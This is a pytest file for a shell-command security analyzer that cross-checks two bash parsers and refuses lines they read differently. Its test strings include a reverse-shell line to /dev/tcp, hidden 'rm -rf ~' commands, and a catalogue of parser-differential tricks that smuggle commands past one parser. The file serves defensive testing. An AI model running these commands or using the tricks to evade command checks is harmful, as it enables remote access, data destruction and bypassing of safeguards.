"""The bashlex / tree-sitter-bash cross-check (security.differential)."""

from __future__ import annotations

import string
import subprocess
import sys
from pathlib import Path

import bashlex
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from security import Decision, analyze, differential
from security.analyzer import build_scene, cross_check
from security.bashlex_budget import StepBudget, budgeted
from security.differential import (
    bashlex_shapes,
    disagreement,
    plainly_agree,
    treesitter_shapes,
)


def parse(line: str) -> list[object]:
    return list(bashlex.parse(line))


AGREE = [
    # simple commands, pipelines, lists
    "ls -la",
    "ls -la | grep x",
    "cat f | sort | uniq -c | sort -rn | head",
    "make && make test",
    "make || echo failed",
    "cd src; ls",
    "cd x && ls",
    "uname -a; whoami; id",
    "which python3 || which python",
    "sleep 10 &",
    "sleep 1 & sleep 2; wait",
    "a && b &",
    "ls |& cat",
    "ls;",
    "  ls  ",
    "ls\npwd",
    "cd x\nmake\nmake test",
    "ls\n\npwd\n",
    "id &&\nls",
    "id |\nls",
    # quoting
    'grep -rn "def main" .',
    "echo 'single quoted'",
    "printf $'a\\nb'",
    "echo $'\\n'",
    "ls my\\ file",
    "echo a\\;b",
    "echo 'a;b' \"c|d\"",
    "echo \"a\"'b'c",
    'echo "It\'s" \'a "test"\'',
    'git commit -m "fix: it\'s done"',
    'echo "multi\nline"',
    'git commit -m "line1\n\nline2"',
    "echo $'\\'' ; id",
    "echo 'a'\\''b' ; id",
    'echo "a\\"b" ; id',
    'echo "\\$(id)"',
    "echo '$(id)'",
    "python -c 'print(1)'",
    'python -c "import sys; print(sys.version)"',
    "awk '{print $1}' f",
    "awk -F: '$3 > 1000 {print $1}' /etc/passwd",
    "ls -l | awk '{s+=$5} END {print s}'",
    "sed -n '1,5p' f",
    "sed -e 's/a/b/' -e 's/c/d/' f",
    "git log --format='%H %s'",
    'git log --pretty=format:"%h %an" -n 3',
    "docker ps -a --format '{{.Names}}'",
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    "grep -E '^(a|b)$' f",
    "rg -n 'foo\\(' src",
    "echo 'a b' | tr ' ' '\\n'",
    # globs, braces, tildes
    "rm -f *.pyc",
    "ls **/*.py",
    "ls [ab]*.txt",
    "ls ?.txt",
    "ls -d */",
    "echo {a,b}",
    "echo {1..5}",
    "ls *.{py,txt}",
    "cp a{,.bak}",
    "mkdir -p out/{a,b}/c",
    "echo ~ ~/x ~user",
    "du -sh .[!.]*",
    "ps aux | grep [p]ython",
    # redirections
    "ls 2>/dev/null",
    "make 2>&1 | tee log",
    "sort < in",
    "echo hi > out",
    "echo hi >> out",
    "cmd &> log",
    "cmd >| out",
    "cmd 1>&2",
    "cmd 2>>err.log",
    "cmd <&-",
    "exec 3>&-",
    "cat 3<f",
    "wc -l < f",
    "tr -d '\\r' < f > g",
    "ls 2>&1 >/dev/null | grep err",
    "ls -la > /tmp/out.txt 2>&1 && cat /tmp/out.txt",
    "nohup cmd > log 2>&1 &",
    "<in id",
    "2>&1 id",
    "> out",
    "cat <<< hello",
    'read -r a b <<< "1 2"',
    # normalised: words after a redirection (tree-sitter hangs them on the redirect)
    "grep 2>/dev/null -q x f",
    "echo >&2 error message",
    "sort > out.txt in.txt",
    "a && b 2>/dev/null -q x",
    "echo a >f b c >g d",
    "bash -i >& /dev/tcp/h/1 0>&1",
    "export X >f Y",
    # heredocs (tree-sitter drops the `-` before `<<`: normalised)
    "cat <<EOF\nhello\nEOF",
    "cat <<-EOF\n\thello\nEOF",
    "cat > f <<EOF\nline $HOME\nEOF",
    "cat > f.py <<EOF\nimport os\nprint(os.getcwd())\nEOF\npython f.py",
    "python3 - <<EOF\nprint(1)\nEOF",
    "cd x && python3 - <<EOF\nx\nEOF",
    "cat -<<EOF\nEOF",
    "cat <<EOF -\nEOF",
    "cat <<EOF >f x\nEOF",
    "cat <<EOF | grep a\nx\nEOF",
    "cat >f - 2>&1",
    # substitutions
    "echo $(date)",
    "echo `date`",
    'echo "today is $(date +%F)"',
    'echo "a `whoami` b"',
    "echo x`ls`y",
    "echo $(echo $(echo hi))",
    'echo "$(echo "$(pwd)")"',
    "cat $(find . -name x)",
    "kill -9 $(pgrep -f x)",
    "wc -l $(git ls-files '*.py')",
    "make -j$(nproc)",
    "cd `dirname $0`",
    "ls > $(mktemp)",
    'ls 2>"$(id)"',
    'cat <<< "$(date)"',
    "diff <(ls a) <(ls b)",
    "tee >(wc -l) < f",
    "comm -12 <(sort a) <(sort b)",
    "ls -la | tee >(grep x > a) | wc -l",
    'while read -r a b; do echo "$b $a"; done < <(sort f)',
    "echo $(echo \\))",
    # variables and parameter expansions without substitutions
    "echo $HOME",
    'echo "$HOME/x"',
    "echo ${HOME}",
    "echo ${#x}",
    "echo ${x:-default}",
    "echo ${x%.py}",
    "echo ${x//a/b}",
    'echo "${PATH//:/ }"',
    "echo ${VAR:?missing}",
    "echo ${#arr[@]}",
    'mv -- "$f" "${f%.txt}.md"',
    "echo $? $$ $! $# $@ $*",
    'echo "$@"',
    'echo $"hello"',  # normalised: tree-sitter splits `$` from the string
    # assignments
    "LANG=C sort x",
    "A=1 B=2 env",
    "X=1",
    "X=1 Y=2",
    "X=$(pwd)",
    "X=`pwd`; echo $X",
    'a=$(cat f); echo "$a"',
    'OUT=$(mktemp -d) && cp -r . "$OUT"',
    "env -i PATH=/bin ls",
    "echo a=b",
    # compound commands
    'for f in *.py; do wc -l "$f"; done',
    "for i in 1 2 3; do echo $i; done",
    "for i in $(seq 1 10); do echo $i; done",
    'for d in */; do (cd "$d" && git pull); done',
    "if [ -f x ]; then cat x; fi",
    "if [ -f x ]; then cat x; else echo no; fi",
    'if [ "$a" = b ]; then echo y; elif [ -d d ]; then ls d; fi',
    "if ! command -v jq >/dev/null; then echo missing; fi",
    'while read l; do echo "$l"; done < f',
    "while IFS= read -r line; do printf '%s\\n' \"$line\"; done < in.txt",
    'ls | while read f; do echo "$f"; done',
    "until false; do sleep 1; done",
    "f() { ls; }; f",
    "function g { ls; }; g",
    "function f () ( id )",
    "f() ( ls )",
    "f() { id; } >out",
    "(cd x && make)",
    "( ls; pwd )",
    "{ ls; pwd; }",
    "{ ls; } > out 2>&1",
    "true && { ls; pwd; } || echo no",
    "(a; b) | (c && d)",
    "! grep -q x f",
    "! ls | wc",
    # test brackets (normalised: tree-sitter's test_command flattened)
    '[ -n "$x" ] && echo set',
    "[ ! -e f ] || rm f",
    "[ -f x -a -d y ]",
    "[ x = y -o a != b ]",
    '[ "$(uname)" = Darwin ] && echo mac || echo other',
    "[ $# -eq 0 ] && exit 1",
    '[ -z "${a:-}" ]',
    "test -f x && cat x",
    # declarations (normalised: declaration_command / unset_command)
    "export X=1",
    "export PATH=$PATH:/x",
    "export A B=2 C",
    "export X=$(id)",
    "local x=1",
    "declare -r x=1",
    "declare -x X=1 >/dev/null",
    "readonly x",
    "unset x",
    "unset -f f",
    # everyday tools
    "find . -name '*.py' -exec grep -l x {} \\;",
    "find . -type f -print0 | xargs -0 rm",
    'find . -name "*.py" | xargs grep -n "TODO" 2>/dev/null | head -20',
    "ls | xargs -n1 echo",
    "seq 5 | xargs -I{} echo item {}",
    "git log --oneline -5",
    "git status && git diff --stat",
    "git diff HEAD~1 -- file",
    "git add -A && git commit -m 'wip'",
    "git log --since='2 weeks ago' --author=\"$(git config user.email)\"",
    "curl -sSL https://x.org/a?b=c | head",
    "curl -o /dev/null -w '%{http_code}' https://x",
    "pip install -e '.[dev]'",
    'pytest -k "not slow" -x',
    "npm install --save-dev @types/node",
    "cargo build --release 2>&1 | tail",
    'docker run --rm -v "$PWD":/w -w /w img make',
    "tar cf - dir | (cd /dst && tar xf -)",
    "tar cf - . | ssh h tar xf -",
    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"k\"])' < f.json",
    "trap 'rm -f x' EXIT",
    "set -euo pipefail",
    "source .venv/bin/activate",
    "echo -- -n",
    "echo done; exit 0",
    # keywords as arguments, comments, `#` inside words
    "echo if then",
    "echo done",
    "echo fi; ls",
    "echo }",
    "ls # rm -rf /",
    "ls; # comment\npwd",
    "echo a#b",
    "echo a#$(id)",
    "echo #$(id)",
    "echo $(#c\nid)",
    "ls -la \\\n  | grep x",
    # non-ASCII (tree-sitter's byte offsets converted)
    "grep 'héllo' f",
    "echo 日本語 | wc -c",
    "echo 'ü' \"ö\" ä; ls ß",
    'echo "é$(id)é" && ls ü',
    "echo a\u00a0b",
]

# Lines the two parsers read differently. Each is a real differential: one of them
# (sometimes bash itself) reads a command or a word that the other does not.
DISAGREE = [
    # bashlex keeps ${...} opaque; tree-sitter (and bash) run the substitution inside.
    "echo ${x:-$(rm -rf ~)}",
    'echo "${y:=$(id)}"',
    "echo ${x/$(id)/y}",
    'echo ${x:-"$(id)"}',
    # an array subscript is arithmetic: bash runs the $(id) in it; bashlex does not see it
    "echo ${arr[$(id)]}",
    # unquoted heredoc bodies expand; bashlex does not parse them, even with '...' inside
    "cat <<EOF\n$(id)\nEOF",
    "cat <<EOF\n'$(id)'\nEOF",
    # backslash-newline joins words in bash (`ec\<nl>ho` is `echo`); tree-sitter splits
    "ec\\\nho hi",
    "ls\\\n-la",
    # ... and bashlex invents a command named `$(` here
    "echo a\\\n$(id)",
    # \r, \v, \f are not blanks to bash (or bashlex); tree-sitter splits words on them
    "ls\rid",
    "ls\r\nid",
    "ls\x0bid",
    "ls\x0cid",
    # tree-sitter reads backslash-CRLF as a line continuation; bash runs `echo $'\r'; id`
    "echo \\\r\nid",
    # an arithmetic command; bashlex reads nested subshells that run a command `x`
    "(( x = 1 ))",
    # no expansion inside $'...'; bashlex still sees a command `id`
    "echo $'$(id)'",
    # array element assignment: bashlex sees a command named `arr[$(id)]=1`
    "arr[$(id)]=1",
    # an assignment after a redirection is still an assignment: bash runs `rm`, but
    # bashlex reads `a=1` as the command name
    ">/dev/null a=1 rm -rf ~",
    # `!` is a keyword only when a blank follows: bash runs a command `!$x`
    "!$x",
    # two backquoted substitutions: tree-sitter reads one from the first ` to the last
    "echo `date` `whoami`",
    "echo `a``b`",
    # `# c)` is a comment inside $( ): bash runs `id` too; bashlex stops at the `)`
    "echo $(ls # c)\nid)",
    # brace expansion in command position runs `ls -la`; tree-sitter cannot parse it
    "{ls,-la}",
    # tree-sitter fails on escaped parentheses in [ ], and glues `] [` into one word
    "[ \\( a \\) ]",
    "echo ] [",
    # bash: one word `X=$(id)<(ls)`; tree-sitter makes `<(ls)` a separate command
    "X=$(id)<(ls)",
    # bash: word `-2` and a stdout redirection; tree-sitter reads `2>` as stderr
    "echo -2>/dev/null f",
    # a lone escaped blank is a word to bash; tree-sitter drops it
    "ls \\  -la",
    # `--x=1` is not an assignment (bad name): bash runs it; tree-sitter assigns
    "--x=1 ls",
    # `\$(` is literal in a heredoc body; tree-sitter fails to parse it
    "cat <<EOF\n\\$(id)\nEOF",
    # constructs tree-sitter-bash cannot parse: <> with a descriptor, two heredocs,
    # a heredoc followed by `;` on its line
    "exec 3<>f",
    "cat <<A <<B\na\nA\nb $(id)\nB",
    "cat <<EOF; ls\nx\nEOF",
]


@pytest.mark.parametrize("line", AGREE)
def test_everyday_lines_agree(line: str) -> None:
    assert disagreement(line, parse(line)) is None


@pytest.mark.parametrize("line", DISAGREE)
def test_differentials_are_reported(line: str) -> None:
    reason = disagreement(line, parse(line))
    assert reason is not None
    assert not reason.startswith("differential check failed"), reason


def differential_found_by_the_analyzer(line: str) -> list[str]:
    """The disagreements the analyzer's cross-check finds on ``line``, fed as analyze
    feeds it (bashlex's trees of the line and of its shell strings, plain lines skipped)."""
    scene = build_scene(line)
    cross_check(scene)
    return scene.differential


@pytest.mark.parametrize("line", DISAGREE)
def test_the_analyzer_finds_every_differential_and_refuses_it(line: str) -> None:
    assert differential_found_by_the_analyzer(line), line
    assert analyze(line).decision is not Decision.ALLOW


# Differentials that no check but the cross-check (S05) refuses.
ONLY_THE_DIFFERENTIAL_REFUSES = [
    "cat <<EOF\n$(id)\nEOF",
    "echo $'$(id)'",
    "echo $(ls # c)\nid)",
    "echo ] [",
    "echo -2>/dev/null f",
    "ls \\  -la",
    "cat <<EOF; ls\nx\nEOF",
]


@pytest.mark.parametrize("line", ONLY_THE_DIFFERENTIAL_REFUSES)
def test_a_differential_alone_is_a_refusal(line: str, monkeypatch: pytest.MonkeyPatch) -> None:
    verdict = analyze(line)
    assert verdict.decision is not Decision.ALLOW
    assert "S05" in {f.check for f in verdict.findings}
    # the row is what its table says: with the parsers made to agree, it is allowed
    monkeypatch.setattr(differential, "disagreement", lambda line, nodes: None)
    assert analyze(line).decision is Decision.ALLOW, "another check refuses it: pick another"


# Read-only lines the parsers read alike only once a normalisation of
# security/differential.py has been applied: the cross-check must let each through.
NORMALISED_READ_ONLY = {
    "grep 2>/dev/null -q x f": "words after a redirection",
    "echo >&2 error message": "words after a redirection",
    "cat -<<EOF\nEOF": "a lone - before a heredoc",
    "cat <<EOF -\nEOF": "words after a heredoc delimiter",
    "[ -f x -a -d y ]": "a test expression flattened",
    'echo $"hello"': "touching nodes made one word",
    "echo x`ls`y": "touching nodes made one word",
    "echo 'ü' \"ö\" ä; ls ß": "byte offsets made character offsets",
}


@pytest.mark.parametrize("line", sorted(NORMALISED_READ_ONLY))
def test_benign_lines_read_alike_after_normalisation_are_allowed(line: str) -> None:
    verdict = analyze(line)
    assert verdict.decision is Decision.ALLOW, (NORMALISED_READ_ONLY[line], verdict.findings)


def test_shapes_of_a_pipeline() -> None:
    line = 'FOO=1 ls -l "$(pwd)" 2>&1 | grep x > out'
    expected = [(6, ("ls", "-l", '"$(pwd)"')), (15, ("pwd",)), (28, ("grep", "x"))]
    assert sorted(bashlex_shapes(line, parse(line))) == expected
    assert sorted(treesitter_shapes(line) or []) == expected


def test_words_are_raw_source_text() -> None:
    line = "echo 'a b' \"$HOME\"x \\; $'\\t'"
    assert treesitter_shapes(line) == [(0, ("echo", "'a b'", '"$HOME"x', "\\;", "$'\\t'"))]


def test_offsets_are_characters_not_bytes() -> None:
    line = "echo 'héllo' ü; ls 日本"
    shapes = sorted(treesitter_shapes(line) or [])
    assert shapes == [(0, ("echo", "'héllo'", "ü")), (16, ("ls", "日本"))]
    assert sorted(bashlex_shapes(line, parse(line))) == shapes


def test_assignment_only_and_redirection_only_commands_have_no_shape() -> None:
    assert treesitter_shapes("X=1 Y=2") == []
    assert treesitter_shapes("> out") == []
    assert bashlex_shapes("X=1 Y=2", parse("X=1 Y=2")) == []


def test_reason_names_the_command_and_its_offset() -> None:
    line = "echo ${x:-$(rm -rf ~)}"
    assert disagreement(line, parse(line)) == (
        "tree-sitter sees a command `rm -rf ~` at 12 that bashlex does not"
    )
    line = "echo $'$(id)'"
    assert disagreement(line, parse(line)) == (
        "bashlex sees a command `id` at 9 that tree-sitter does not"
    )


def test_quoted_heredoc_as_the_analyzer_feeds_it() -> None:
    # bashlex rejects <<'EOF'; the analyzer parses a copy with the quotes blanked out.
    line = "python3 - <<'PY'\nprint('$(id)')\nPY"
    blanked = line.replace("<<'PY'", "<< PY ")
    assert disagreement(line, parse(blanked)) is None


@pytest.mark.parametrize(
    "line", ["echo 'unterminated", "if true; then", "ls |", "echo $(", "a && && b", "[[ x", "(("]
)
def test_treesitter_shapes_is_none_on_broken_input(line: str) -> None:
    assert treesitter_shapes(line) is None
    assert disagreement(line, []) == "tree-sitter could not parse the line"


WEIRD = [
    "",
    " ",
    "\n",
    "\x00",
    "ls\x00id",
    "\x01\x02\x03\x7f",
    "\x1b[31mred",
    "\ud800",
    "echo \udfff \ud800x",
    "\ufeffls",
    "echo \u202egnp.exe",
    "$(" * 200 + ")" * 200,
    "`" * 101,
    "'" * 3,
    "\\",
    "<<",
    "${",
    "é" * 5000,
    ";" * 50,
    "\t\r\x0b\x0c",
]


def check_against_no_bashlex_command(line: str) -> None:
    """When bashlex's reading holds no command, the line passes only if tree-sitter's
    holds none either; any command tree-sitter sees is named as the disagreement."""
    reason = disagreement(line, [])
    shapes = treesitter_shapes(line)
    if shapes is None:
        assert reason == "tree-sitter could not parse the line"
    elif shapes:
        assert reason is not None and reason.startswith("tree-sitter sees a command "), reason
    else:
        assert reason is None


@pytest.mark.parametrize("line", WEIRD)
def test_weird_input_is_judged_and_junk_for_a_tree_fails_closed(line: str) -> None:
    check_against_no_bashlex_command(line)
    for junk in ([None], ["text"], [object()]):
        assert disagreement(line, junk) is not None


def test_a_broken_bashlex_tree_fails_closed() -> None:
    reason = disagreement("ls", [object()])
    assert reason is not None
    assert reason.startswith("differential check failed:")


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(exclude_categories=()), max_size=60))  # surrogates too
def test_any_text_is_judged_against_no_bashlex_command(line: str) -> None:
    check_against_no_bashlex_command(line)


WIDE_CHILD = """
from security.differential import disagreement
for cp in range(0x100, 0x110000, 0x3FF):
    c = chr(cp)
    disagreement("echo {%s}; [ -%s ]; ${x?%s}; cat <<E\\n$%s\\nE" % (c, c, c, c), [])
"""


def test_wide_characters_do_not_crash_the_scanner() -> None:
    # tree-sitter-bash feeds code points to isdigit()/isalpha(): `{` followed by
    # U+100000 read out of bounds and killed the interpreter. Run in a child process.
    root = Path(__file__).resolve().parents[3]
    done = subprocess.run([sys.executable, "-c", WIDE_CHILD], cwd=root, capture_output=True)
    assert done.returncode == 0, done.stderr.decode(errors="replace")[-500:]


def test_astral_characters_keep_offsets() -> None:
    line = "echo 😀 {\U00100000}; ls 😀"
    assert sorted(treesitter_shapes(line) or []) == [
        (0, ("echo", "😀", "{\U00100000}")),
        (12, ("ls", "😀")),
    ]
    assert disagreement(line, parse(line)) is None


# -- the plain-line fast path: lines the analyzer does not cross-check ---------------
#
# `plainly_agree` lets the analyzer skip the cross-check. It fails one of two ways:
# it waves through a line the parsers read differently (the cross-check is lost on
# it), or it turns away the plain lines it is for (each of them pays for tree-sitter).

# The grammar security/differential.py gives for plain lines, built as such (no filter
# on plainly_agree): words of plain characters and single-quoted parts (printable
# ASCII but a backquote) between blanks and | || && ; &. A command name starts with a
# letter, `_`, `.`, `/` or a quote and holds no `@ % + =`; an argument starts with a
# digit only if it is a number, and holds `=` only if it is a long option; no word is a
# reserved word or a declaration builtin.
_KEYWORDS = "if then else elif fi case esac for select while until do done in function time coproc"
_DECLARATIONS = "export local declare readonly typeset unset"
_RESERVED = frozenset(f"{_KEYWORDS} {_DECLARATIONS}".split())
_PRINTABLE = "".join(chr(c) for c in range(0x20, 0x7F) if chr(c) not in "'`") + "\t"
_NAME_CHARS = string.ascii_letters + string.digits + "_./,:-"
_ARG_CHARS = _NAME_CHARS + "@%+"


def _chars(alphabet: str, min_size: int = 0, max_size: int = 5) -> st.SearchStrategy[str]:
    return st.text(st.sampled_from(alphabet), min_size=min_size, max_size=max_size)


def _quoted(excluded: str) -> st.SearchStrategy[str]:
    body = _chars("".join(c for c in _PRINTABLE if c not in excluded), max_size=6)
    return body.map(lambda text: f"'{text}'")


def _word(first: str, rest: str, not_quoted: str) -> st.SearchStrategy[str]:
    head = st.one_of(
        st.builds(str.__add__, st.sampled_from(first), _chars(rest)), _quoted(not_quoted)
    )
    tail = st.lists(st.one_of(_chars(rest, min_size=1), _quoted(not_quoted)), max_size=2)
    return st.builds(lambda h, t: h + "".join(t), head, tail).filter(lambda w: w not in _RESERVED)


_name = _word(string.ascii_letters + "_./", _NAME_CHARS, "@%+=")
_argument = st.one_of(
    _word(string.ascii_letters + "_./,:@%+-", _ARG_CHARS, "="),
    _chars(string.digits, min_size=1, max_size=3),
    st.builds("--{}={}".format, _chars(string.ascii_letters + "-", 1), _chars(_ARG_CHARS + "=")),
)
_command = st.builds(
    lambda name, blank, arguments: name + "".join(blank + a for a in arguments),
    _name,
    st.sampled_from([" ", "  ", "\t"]),
    st.lists(_argument, max_size=3),
)
_plain_line = st.builds(
    lambda first, rest, end: first + "".join(op + command for op, command in rest) + end,
    _command,
    st.lists(
        st.tuples(
            st.sampled_from([" | ", "|", " || ", "&&", " && ", ";", " ; ", " & ", "&"]), _command
        ),
        max_size=3,
    ),
    st.sampled_from(["", ";", " &", "&", " "]),
)


def _parsers_agree_unless_bashlex_refuses(line: str) -> None:
    try:
        with budgeted(StepBudget.for_text(line)):  # bashlex can loop forever
            nodes = list(bashlex.parse(line))
    except Exception:
        return  # unparseable lines are refused (S04) before any cross-check
    assert disagreement(line, nodes) is None, line


@settings(max_examples=1000, deadline=None)
@given(_plain_line)
def test_the_plain_grammar_takes_the_fast_path_and_reads_alike(line: str) -> None:
    assert plainly_agree(line), line
    _parsers_agree_unless_bashlex_refuses(line)


@settings(max_examples=1000, deadline=None)
@given(st.text("abz09_./,:@%+=- \t|&;'*?[]()$\"\\!#<>~{}^`", max_size=30).filter(plainly_agree))
def test_whatever_the_fast_path_skips_reads_alike(line: str) -> None:
    _parsers_agree_unless_bashlex_refuses(line)


# Lines of plain characters that the parsers read differently (tree-sitter-bash cannot
# parse a command name holding `@`, `%` or `+:`, nor `-` before one, and reads `--x=y`
# first as an assignment): the fast path must leave each to the cross-check.
PLAIN_CHARACTERS_READ_DIFFERENTLY = [
    "a@ x",
    "a% x",
    "a+: x",
    "ls; a@",
    "ls | b%",
    "- a%",
    "--x=y ls",
    "--x=1",
]


@pytest.mark.parametrize("line", PLAIN_CHARACTERS_READ_DIFFERENTLY)
def test_plain_characters_read_differently_are_cross_checked(line: str) -> None:
    assert not plainly_agree(line)
    assert differential_found_by_the_analyzer(line), line


@pytest.mark.parametrize(
    "line",
    [
        "ls $HOME",
        'echo "x"',
        "echo `id`",
        "a > b",
        "a\nb",
        "ls # x",
        "[ -f x ]",
        "if a; then b; fi",
        "for x in a; do b; done",
        "export A=1 B",
        "time ls",
        "echo 'it''s' \\n",
        "cat <(ls)",
        "ls *",
        "echo ~",
    ],
)
def test_lines_with_anything_but_plain_words_are_cross_checked(line: str) -> None:
    assert not plainly_agree(line)


def test_everyday_plain_lines_take_the_fast_path() -> None:
    for line in ("ls -la", "git log --oneline -n 5 | head", "grep -rn 'TODO' src && echo ok"):
        assert plainly_agree(line), line
